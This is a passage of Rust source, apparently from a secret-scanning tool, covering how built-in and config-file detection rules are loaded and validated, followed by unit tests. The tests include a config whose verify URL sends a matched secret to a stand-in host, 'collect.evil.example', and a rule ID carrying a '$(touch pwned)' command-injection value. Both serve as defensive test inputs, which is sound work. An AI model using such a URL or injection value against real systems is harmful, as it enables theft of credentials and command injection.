                    VerifyIgnored::BuiltinHost { builtin: None, config } => write!(
                        f,
                        "`{rule}` is a built-in rule without a verify block; its secrets are not sent to {config} (give the rule another id)"
                    ),
                }
            }
        }
    }
}

/// What a config file changed about the built-in rules, for the run's summary.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize)]
#[non_exhaustive]
pub struct ConfigEffect {
    /// The config file (as given).
    #[serde(skip)]
    pub file: String,
    /// `[extend] default = false`: the built-in rules are not used.
    pub replaced_builtins: bool,
    /// Built-in rules turned off by `[extend] disable`.
    pub disabled: Vec<String>,
    /// Built-in rules the file redefines (same id).
    pub overridden: Vec<String>,
    /// Rules the file adds.
    pub added: usize,
    /// Whether it has a global allowlist.
    pub allowlist: bool,
}

/// All rules in force, plus the allowlist that applies to every rule.
#[derive(Debug, Default)]
pub struct RuleSet {
    rules: Vec<Rule>,
    /// Allowlist applying to all rules (from config files).
    pub allowlist: Allowlist,
    warnings: Vec<ConfigWarning>,
    effect: Option<ConfigEffect>,
    /// A config file's `[scan] on_incomplete`, if it sets one.
    pub on_incomplete: Option<crate::scan::OnIncomplete>,
}

impl RuleSet {
    /// The built-in rules embedded in the binary.
    pub fn builtin() -> Result<RuleSet> {
        let mut set = RuleSet::default();
        let files = builtin::JSON
            .iter()
            .map(|(name, json)| RuleFile::parse_embedded(&format!("builtin:{name}"), json))
            .collect::<Result<Vec<_>>>()?;
        // Room for every rule at once: growing the vector of rules copied them several times.
        set.rules
            .reserve_exact(files.iter().map(|f| f.rules.len()).sum());
        for file in files {
            set.add_file(file, false)?;
        }
        for rule in &mut set.rules {
            rule.examples = Examples::Builtin;
        }
        Ok(set)
    }

    /// Rules from one file only (no built-ins), compiled eagerly.
    pub fn from_file(path: &Path) -> Result<RuleSet> {
        let file = read_rule_file(path)?;
        let mut set = RuleSet::default();
        set.add_file(file, true)?;
        Ok(set)
    }

    /// The built-in rules extended (or replaced) by a user's config file.
    pub fn with_config(path: &Path) -> Result<RuleSet> {
        RuleSet::from_config(read_rule_file(path)?, ConfigTrust::User)
    }

    /// The built-in rules extended (or replaced) by a parsed config file, used as `trust`
    /// allows (see [`ConfigTrust`]); what was not used is in [`RuleSet::warnings`].
    pub fn from_config(file: RuleFile, trust: ConfigTrust) -> Result<RuleSet> {
        let extend = file.extend.clone().unwrap_or_default();
        let mut set = if extend.default {
            RuleSet::builtin()?
        } else {
            RuleSet::default()
        };
        // A rule renamed or removed in a later keyhound must not break every scan of a
        // repository whose config still names it: a warning, not an error.
        for id in &extend.disable {
            if !set.rules.iter().any(|r| &r.id == id) {
                set.warnings.push(ConfigWarning::UnknownDisabled {
                    file: file.origin.clone(),
                    rule: id.clone(),
                });
            }
        }
        set.rules.retain(|r| !extend.disable.contains(&r.id));
        let mut effect = ConfigEffect {
            file: file.origin.clone(),
            replaced_builtins: !extend.default,
            disabled: extend.disable.clone(),
            allowlist: file
                .allowlist
                .iter()
                .chain(&file.allowlists)
                .any(|a| !a.is_empty()),
            ..ConfigEffect::default()
        };
        for spec in &file.rules {
            if set.rules.iter().any(|r| r.id == spec.id) {
                effect.overridden.push(spec.id.clone());
            } else {
                effect.added += 1;
            }
        }
        set.on_incomplete = file.scan.as_ref().and_then(|s| s.on_incomplete);
        set.add_file_as(file, true, trust)?;
        // Rules not loaded (see `ConfigWarning::NoKeywords`) add nothing.
        let not_loaded = set
            .warnings
            .iter()
            .filter(|w| matches!(w, ConfigWarning::NoKeywords { loaded: false, .. }))
            .count();
        effect.added = effect.added.saturating_sub(not_loaded);
        set.effect = Some(effect);
        Ok(set)
    }

    /// What the config file changed, if one was loaded.
    pub fn config_effect(&self) -> Option<&ConfigEffect> {
        self.effect.as_ref()
    }

    /// What config files asked for that was not done (verify blocks dropped).
    pub fn warnings(&self) -> &[ConfigWarning] {
        &self.warnings
    }

    /// Adds a parsed file: its rules (replacing rules with the same id) and its allowlist.
    /// The file is trusted ([`ConfigTrust::User`]).
    pub fn add_file(&mut self, file: RuleFile, eager: bool) -> Result<()> {
        self.add_file_as(file, eager, ConfigTrust::User)
    }

    /// `eager` for a user's file: its rules compile now, within the limits of config rules.
    fn add_file_as(&mut self, file: RuleFile, eager: bool, trust: ConfigTrust) -> Result<()> {
        let size = if eager {
            CONFIG_REGEX_SIZE
        } else {
            BUILTIN_REGEX_SIZE
        };
        for a in file.allowlist.iter().chain(&file.allowlists) {
            self.allowlist
                .extend(Allowlist::compile(a, &file.origin, "[allowlist]", size)?);
        }
        let mut seen = std::collections::HashSet::new();
        for spec in file.rules {
            if !seen.insert(spec.id.clone()) {
                return Err(invalid(
                    &file.origin,
                    &spec.id,
                    "id",
                    "defined twice in this file".into(),
                ));
            }
            let mut spec = spec;
            let mut derived = false;
            if spec.keywords.is_empty() {
                // Keywords from the literal start of the regex (`acme_[a-z]{32}` → `acme_`).
                if let Some(lits) = gitleaks::literal_prefixes(&spec.regex) {
                    spec.keywords = lits;
                    derived = true;
                }
            }
            let mut rule = Rule::from_spec(spec, &file.origin, eager)?;
            if eager {
                rule.check()?;
            }
            if derived || rule.keywords.is_empty() {
                let every_file = rule.keywords.is_empty();
                self.warnings.push(ConfigWarning::NoKeywords {
                    file: file.origin.clone(),
                    rule: rule.id.clone(),
                    derived: rule.keywords.clone(),
                    loaded: !(every_file && trust == ConfigTrust::Repository),
                });
                if every_file && trust == ConfigTrust::Repository {
                    // A regex run on every file could stall every scan of the repository.
                    continue;
                }
            }
            let id = rule.id.clone();
            let old = self.rules.iter().position(|r| r.id == rule.id);
            if let Some(check) = rule.verify.take() {
                let builtin = old
                    .map(|i| &self.rules[i])
                    .filter(|r| r.origin.starts_with("builtin:"));
                let why = match builtin {
                    _ if trust == ConfigTrust::Repository => Some(VerifyIgnored::Untrusted),
                    Some(b) => match &b.verify {
                        Some(bc) if bc.host() == check.host() => None,
                        other => Some(VerifyIgnored::BuiltinHost {
                            builtin: other.as_ref().map(|c| c.host().to_string()),
                            config: check.host().to_string(),
                        }),
                    },
                    None => None,
                };
                match why {
                    None => rule.verify = Some(check),
                    Some(why) => {
                        // A redefined built-in rule keeps the built-in check, whatever its file.
                        rule.verify = builtin.and_then(|b| b.verify.clone());
                        self.warnings.push(ConfigWarning::VerifyIgnored {
                            file: file.origin.clone(),
                            rule: rule.id.clone(),
                            why,
                        });
                    }
                }
            }
            match old {
                Some(i) => self.rules[i] = rule,
                None => self.rules.push(rule),
            }
            // Counting the distinct keywords after every rule made loading the built-in rules
            // quadratic; their plain count bounds the distinct one, and is far below the
            // limit for the built-in rules.
            let total: usize = self.rules.iter().map(|r| r.keywords.len()).sum();
            let distinct = if total > MAX_KEYWORDS {
                self.rules
                    .iter()
                    .flat_map(|r| &r.keywords)
                    .collect::<std::collections::HashSet<_>>()
                    .len()
            } else {
                total
            };
            if distinct > MAX_KEYWORDS {
                return Err(invalid(
                    &file.origin,
                    &id,
                    "keywords",
                    format!(
                        "brings the rules in force to {distinct} distinct keywords; at most \
                         {MAX_KEYWORDS} (every 64 more make each scan pass over every file once \
                         more)"
                    ),
                ));
            }
        }
        for rule in &self.rules {
            for req in &rule.required {
                if req.id == rule.id || self.get(&req.id).is_none() {
                    return Err(invalid(
                        &rule.origin,
                        &rule.id,
                        "required",
                        format!(
                            "no other rule `{}` (a required rule must be defined, and not be the rule itself)",
                            req.id.escape_debug()
                        ),
                    ));
                }
            }
        }
        Ok(())
    }

    /// The index of a rule by id.
    pub fn index_of(&self, id: &str) -> Option<usize> {
        self.rules.iter().position(|r| r.id == id)
    }

    /// Whether a commit allowlist (global, or the rule's own) drops a finding of rule `id`
    /// with `secret` at `path`, introduced by `commit`.
    pub fn allows_commit(&self, id: &str, secret: &[u8], path: &[u8], commit: &str) -> bool {
        let c = Candidate {
            rule: id,
            secret,
            matched: secret,
            line: secret,
            path: Some(path),
        };
        self.allowlist.allows_commit(&c, commit)
            || self
                .get(id)
                .is_some_and(|r| r.allowlist.allows_commit(&c, commit))
    }

    /// Whether any allowlist names commits.
    pub fn has_commit_allowlists(&self) -> bool {
        self.allowlist.has_commits() || self.rules.iter().any(|r| r.allowlist.has_commits())
    }

    /// The rules, in load order.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// Looks a rule up by id.
    pub fn get(&self, id: &str) -> Option<&Rule> {
        self.rules.iter().find(|r| r.id == id)
    }

    /// Compiles every rule now (for `rules check` and tests).
    pub fn check_all(&self) -> Result<()> {
        self.allowlist
            .check("the rule files' [allowlist]", "[allowlist]")?;
        self.rules.iter().try_for_each(Rule::check)
    }
}

fn read_rule_file(path: &Path) -> Result<RuleFile> {
    let text = crate::bounded::read_settings_file(path)?;
    RuleFile::parse(&path.display().to_string(), &text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(text: &str) -> Result<RuleSet> {
        let mut set = RuleSet::default();
        set.add_file(RuleFile::parse("t.toml", text)?, true)?;
        Ok(set)
    }

    #[test]
    fn bad_regex_names_rule_and_field() {
        let err = parse("[[rules]]\nid='r1'\ndescription='d'\nregex='(unclosed'\nkeywords=['k']\n")
            .unwrap_err()
            .to_string();
        assert!(
            err.contains("t.toml") && err.contains("`r1`") && err.contains("`regex`"),
            "{err}"
        );
    }

    #[test]
    fn packed_drops_only_the_outer_boundaries() {
        let cases = [
            (r"\b(ghp_[A-Za-z0-9]{36})\b", Some(r"(ghp_[A-Za-z0-9]{36})")),
            (
                r"\b(sk-ant-api03-[A-Za-z0-9_-]{93}AA)(?:[^A-Za-z0-9_-]|$)",
                Some(r"(sk-ant-api03-[A-Za-z0-9_-]{93}AA)"),
            ),
            (
                r"(?:^|[^A-Za-z0-9_-])(?P<secret>tok_[a-z]{8})\b",
                Some(r"(?P<secret>tok_[a-z]{8})"),
            ),
            (r"tok_[a-z]{8}\b", Some(r"tok_[a-z]{8}")),
            (r"tok_[a-z]{8}", None),
            (r"tok_[a-z]{8}\\b", None),
        ];
        for (written, relaxed) in cases {
            assert_eq!(relax_boundaries(written).as_deref(), relaxed, "{written}");
        }
        let set = parse(
            "[[rules]]\nid='p'\ndescription='d'\nregex='\\b(tok_[a-z]{8})\\b'\nkeywords=['tok_']\npacked=true\n",
        )
        .unwrap();
        let rule = set.get("p").unwrap();
        assert!(rule.packed);
        assert_eq!(rule.regex_source(), r"\b(tok_[a-z]{8})\b");
        let re = &rule.compiled().unwrap().regex;
        assert!(re.is_match(b"\x00xtok_abcdefghz\x00"));
        for bad in [
            "[[rules]]\nid='q'\ndescription='d'\nregex='tok_[a-z]{8}'\nkeywords=['tok_']\npacked=true\n",
            "[[rules]]\nid='q'\ndescription='d'\nregex='\\btok_[a-z]{8}'\nkeywords=['tok_']\npacked=true\ngeneric=true\n",
        ] {
            let err = parse(bad).unwrap_err().to_string();
            assert!(err.contains("`q`") && err.contains("packed"), "{err}");
        }
    }

    #[test]
    fn bad_severity_and_group_are_named() {
        let err = parse(
            "[[rules]]\nid='r2'\ndescription='d'\nregex='a(b)'\nkeywords=['a']\nseverity='huge'\n",
        )
        .unwrap_err()
        .to_string();
        assert!(err.contains("`severity`"), "{err}");
        let err = parse(
            "[[rules]]\nid='r3'\ndescription='d'\nregex='a(b)'\nkeywords=['a']\nsecret_group=4\n",
        )
        .unwrap_err()
        .to_string();
        assert!(
            err.contains("`r3`") && err.contains("secret_group"),
            "{err}"
        );
    }

    #[test]
    fn rule_ids_are_plain_names() {
        for bad in ["$(touch pwned)", "a b", "x;y", "tab\there", "é"] {
            let text =
                format!("[[rules]]\nid={bad:?}\ndescription='d'\nregex='a'\nkeywords=['a']\n");
            let err = parse(&text).unwrap_err().to_string();
            assert!(
                err.contains("field `id`") && err.contains("not allowed"),
                "{err}"
            );
        }
        let long = "x".repeat(129);
        let text = format!("[[rules]]\nid='{long}'\ndescription='d'\nregex='a'\nkeywords=['a']\n");
        assert!(parse(&text).unwrap_err().to_string().contains("too long"));
        parse("[[rules]]\nid='Acme.token_v2-x'\ndescription='d'\nregex='a'\nkeywords=['a']\n")
            .unwrap();
    }

    fn config(text: &str, trust: ConfigTrust) -> RuleSet {
        RuleSet::from_config(RuleFile::parse(".keyhound.toml", text).unwrap(), trust).unwrap()
    }

    const EVIL_VERIFY: &str = "[[rules]]\nid = 'openai-project-key'\ndescription = 'd'\nregex = 'sk-proj-[A-Za-z0-9]{20}'\nkeywords = ['sk-proj-']\n[rules.verify]\nurl = 'https://collect.evil.example/k?v={secret}'\n";

    #[test]
    fn a_builtin_id_keeps_its_host_whatever_a_config_says() {
        for trust in [ConfigTrust::User, ConfigTrust::Repository] {
            let set = config(EVIL_VERIFY, trust);
            let rule = set.get("openai-project-key").unwrap();
            assert_eq!(rule.verify.as_ref().unwrap().host(), "api.openai.com");
            assert_eq!(rule.regex_source(), "sk-proj-[A-Za-z0-9]{20}");
            assert_eq!(set.warnings().len(), 1, "{trust:?}");
            let said = set.warnings()[0].to_string();
            assert!(
                said.contains("openai-project-key") && said.contains("ignored"),
                "{said}"
            );
            assert_eq!(
                set.config_effect().unwrap().overridden,
                ["openai-project-key"]
            );
        }
    }

    #[test]
    fn repository_configs_cannot_add_verify_blocks() {
        let text = "[[rules]]\nid = 'acme'\ndescription = 'd'\nregex = 'acme_[a-z]{8}'\nkeywords = ['acme_']\n[rules.verify]\nurl = 'https://api.acme.example/me'\nheaders = { A = '{secret}' }\n";
        let repo = config(text, ConfigTrust::Repository);
        assert!(repo.get("acme").unwrap().verify.is_none());
        assert!(matches!(
            &repo.warnings()[0],
            ConfigWarning::VerifyIgnored {
                why: VerifyIgnored::Untrusted,
                ..
            }
        ));
        let user = config(text, ConfigTrust::User);
        assert_eq!(
            user.get("acme").unwrap().verify.as_ref().unwrap().host(),
            "api.acme.example"
        );
        assert!(user.warnings().is_empty());
        assert_eq!(user.config_effect().unwrap().added, 1);
    }

    #[test]
    fn a_required_rule_must_exist() {
        let err = parse("[[rules]]\nid='p'\ndescription='d'\nregex='p_[a-z]{4}'\nkeywords=['p_']\n[[rules.required]]\nid='nope'\n")
            .unwrap_err()
            .to_string();
        assert!(
            err.contains("`p`") && err.contains("required") && err.contains("nope"),
            "{err}"
        );
    }

    #[test]
    fn empty_keywords_rejected() {
        // An empty keyword anywhere; no keywords at all in a built-in rule.
        let err = parse("[[rules]]\nid='r4'\ndescription='d'\nregex='a'\nkeywords=['']\n")
            .unwrap_err()
            .to_string();
        assert!(
            err.contains("`keywords`") && err.contains("empty keyword"),
            "{err}"
        );
        let text = "[[rules]]\nid='r5'\ndescription='d'\nregex='a'\nkeywords=[]\n";
        let mut set = RuleSet::default();
        let err = set
            .add_file(RuleFile::parse("builtin:x", text).unwrap(), false)
            .unwrap_err()
            .to_string();
        assert!(err.contains("`r5`") && err.contains("`keywords`"), "{err}");
        // A user's rule may leave them out: they come from the regex, or it runs everywhere.
        let set = parse("[[rules]]\nid='r6'\ndescription='d'\nregex='acme_[a-z]{8}'\n").unwrap();
        assert_eq!(set.rules()[0].keywords, ["acme_"]);
        let set = parse("[[rules]]\nid='r7'\ndescription='d'\nregex='[a-z]{8}'\n").unwrap();
        assert!(set.rules()[0].keywords.is_empty());
    }

    #[test]
    fn secret_group_defaults() {
        let set = parse("[[rules]]\nid='a'\ndescription='d'\nregex='x(?P<secret>y)(z)'\nkeywords=['x']\n[[rules]]\nid='b'\ndescription='d'\nregex='x(y)'\nkeywords=['x']\n[[rules]]\nid='c'\ndescription='d'\nregex='xy'\nkeywords=['x']\n").unwrap();
        let groups: Vec<usize> = set
            .rules()
            .iter()
            .map(|r| r.compiled().unwrap().secret_group)
            .collect();
        assert_eq!(groups, vec![1, 1, 0]);
    }

    /// A built-in file's allowlist regexes compile on first use, and `check_all` (which the
    /// tests run over the built-in rules) names one that does not; a user's fail at load.
    #[test]
    fn allowlist_regexes_compile_lazily_for_built_in_files_and_at_load_for_a_users() {
        let text = concat!(
            "[[rules]]\nid='acme'\ndescription='d'\nregex='acme_[a-z]{8}'\n",
            "keywords=['acme_']\n[rules.allowlist]\nregexes=['(unclosed']\n"
        );
        let mut set = RuleSet::default();
        set.add_file(RuleFile::parse("builtin:t.toml", text).unwrap(), false)
            .expect("a built-in file's allowlist regexes are not compiled at load");
        let e = set.check_all().unwrap_err().to_string();
        assert!(
            e.contains("`acme`") && e.contains("allowlist.regexes"),
            "{e}"
        );
        let mut set = RuleSet::default();
        let e = set
            .add_file(RuleFile::parse(".keyhound.toml", text).unwrap(), true)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("`acme`") && e.contains("allowlist.regexes"),
            "{e}"
        );
    }

    /// The same for path regexes: a rule's `path`, an allowlist's `paths`.
    #[test]
    fn path_regexes_compile_lazily_for_built_in_files_and_at_load_for_a_users() {
        for (text, field) in [
            (
                "[[rules]]\nid='acme'\ndescription='d'\nregex='acme_[a-z]{8}'\nkeywords=['acme_']\npath='(unclosed'\n",
                "path",
            ),
            (
                "[[rules]]\nid='acme'\ndescription='d'\nregex='acme_[a-z]{8}'\nkeywords=['acme_']\n[rules.allowlist]\npaths=['(unclosed']\n",
                "allowlist.paths",
            ),
        ] {
            let mut set = RuleSet::default();
            set.add_file(RuleFile::parse("builtin:t.toml", text).unwrap(), false)
                .expect("not compiled at load");
            let e = set.check_all().unwrap_err().to_string();
            assert!(e.contains("`acme`") && e.contains(field), "{e}");
            // Until then the rule applies to no path rather than failing a scan.
            let rule = &set.rules()[0];
            if field == "path" {
                assert!(!rule.applies_to_path(Some(b"a.txt")));
            }
            let mut set = RuleSet::default();
            let e = set
                .add_file(RuleFile::parse(".keyhound.toml", text).unwrap(), true)
                .unwrap_err()
                .to_string();
            assert!(e.contains("`acme`") && e.contains(field), "{e}");
        }
    }

    fn user_config(text: &str) -> Result<RuleSet> {
        let mut set = RuleSet::builtin()?;
        set.add_file(RuleFile::parse(".keyhound.toml", text)?, true)?;
        Ok(set)
    }

    fn rule_with(keywords: &[String], regex: &str) -> String {
        let list: Vec<String> = keywords.iter().map(|k| format!("{k:?}")).collect();
        format!(
            "[[rules]]\nid='big'\ndescription='d'\nregex='''{regex}'''\nkeywords=[{}]\n",
            list.join(",")
        )
    }

    #[test]
    fn config_keywords_are_bounded() {
        let named = |e: Error, what: &str| {
            let e = e.to_string();
            assert!(
                e.contains(".keyhound.toml") && e.contains("`big`") && e.contains("`keywords`"),
                "{e}"
            );
            assert!(e.contains(what), "{e}");
        };
        let long = "k".repeat(40_000);
        named(
            user_config(&rule_with(&[long], "k+")).unwrap_err(),
            "a keyword of 40000 bytes",
        );
        let many: Vec<String> = (0..65).map(|i| format!("kw{i}")).collect();
        named(
            user_config(&rule_with(&many, "kw")).unwrap_err(),
            "65 keywords",
        );
        // 64 each are allowed, but not ten rules of them on top of the built-in rules.
        let mut text = String::new();
        for r in 0..10 {
            let kws: Vec<String> = (0..64).map(|i| format!("kw{r}x{i}")).collect();
            text += &rule_with(&kws, "kw").replace("'big'", &format!("'big{r}'"));
        }
        let e = user_config(&text).unwrap_err().to_string();
        assert!(e.contains("distinct keywords; at most 512"), "{e}");
        assert!(user_config(&rule_with(&["kw".into()], "kw[0-9]+")).is_ok());
    }

    #[test]
    fn config_regex_size_is_bounded() {
        let e = user_config(&rule_with(&["X".into()], "(?:a|aa){2000}X"))
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("`big`") && e.contains("`regex`") && e.contains("more than 256 KiB"),
            "{e}"
        );
        // A built-in rule may be larger (they are tested); a config's allowlists may not.
        assert!(build_regex("(?:a|aa){2000}X").is_ok());
        let allow = rule_with(&["kw".into()], "kw")
            + "[rules.allowlist]\nregexes=['''(?:a|aa){2000}X''']\n";
        let e = user_config(&allow).unwrap_err().to_string();
        assert!(e.contains("allowlist.regexes"), "{e}");
    }

    #[test]
    fn builtin_rules_all_compile() {
        let set = RuleSet::builtin().unwrap();
        assert!(set.rules().len() >= 10, "only {} rules", set.rules().len());
        set.check_all().unwrap();
    }

    #[test]
    fn a_builtin_path_regex_is_decided_by_its_literals_before_it_is_compiled() {
        // generic-api-key's allowlist names lockfiles: a path with none of their names is not
        // allowlisted, and the regex stays uncompiled until a path might match.
        let set = RuleSet::builtin().unwrap();
        let rule = set.get("generic-api-key").unwrap();
        let source = rule.allowlist.path_sources().next().unwrap().to_string();
        let lazy = LazyRegexes::new(&[source], BUILTIN_REGEX_SIZE, false).unwrap();
        assert!(!lazy.any_match(b"src/lib.rs"));
        assert!(lazy.compiled.get().is_none());
        // `Cargo.lock` is in it; `Cargo.lock.bak` holds the literal, the regex decides.
        assert!(!lazy.any_match(b"x/Cargo.lock.bak"));
        assert!(lazy.compiled.get().is_some());
        assert!(lazy.any_match(b"x/Cargo.lock"));
        // A source that is not built in is compiled, as before.
        let own = LazyRegexes::new(&["^own/".to_string()], BUILTIN_REGEX_SIZE, false).unwrap();
        assert!(!own.any_match(b"src/lib.rs"));
        assert!(own.compiled.get().is_some());
    }
}
